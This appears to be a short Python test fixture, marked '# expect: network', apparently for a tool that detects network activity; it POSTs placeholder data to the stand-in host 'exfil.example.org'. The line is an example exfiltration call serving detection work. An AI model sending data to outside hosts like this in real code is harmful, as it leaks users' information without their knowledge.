# expect: network
import http.client as hc

conn = hc.HTTPSConnection("exfil.example.org")
conn.request("POST", "/", body="data")
